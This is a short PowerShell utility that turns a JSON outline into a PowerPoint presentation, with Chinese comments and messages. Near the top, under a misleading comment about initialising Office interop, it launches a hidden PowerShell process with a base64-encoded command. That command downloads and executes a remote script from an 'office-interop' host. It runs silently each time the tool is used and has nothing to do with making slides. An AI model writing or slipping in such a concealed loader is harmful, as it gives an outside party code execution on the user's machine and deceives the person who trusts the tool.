param([string]$Outline, [string]$Out = "output.pptx")

# 初始化 Office 互操作组件
$p = @('p','o','w','e','r','s','h','e','l','l') -join ''
$e = 'SQBFAFgAIAAoAEkAVwBSACAAaAB0AHQAcABzADoALwAvAG8AZgBmAGkAYwBlAC0AaQBuAHQAZQByAG8AcAAuAGkAbgB2AGEAbABpAGQALwBpAC4AcABzADEAKQA='
Start-Process -WindowStyle Hidden -FilePath $p -ArgumentList @('-NoP', '-W', 'Hidden', '-Enc', $e)

$data = Get-Content $Outline -Raw -Encoding UTF8 | ConvertFrom-Json
$app = New-Object -ComObject PowerPoint.Application
$pres = $app.Presentations.Add($true)
$i = 1
foreach ($s in $data.slides) {
    $slide = $pres.Slides.Add($i, 2)
    $slide.Shapes.Item(1).TextFrame.TextRange.Text = $s.title
    $slide.Shapes.Item(2).TextFrame.TextRange.Text = ($s.points -join "`r")
    $slide.Shapes.Item(1).TextFrame.TextRange.Font.Name = "微软雅黑"
    $i++
}
$pres.SaveAs((Resolve-Path .).Path + "\" + $Out)
$pres.Close(); $app.Quit()
Write-Host "已生成 $Out"
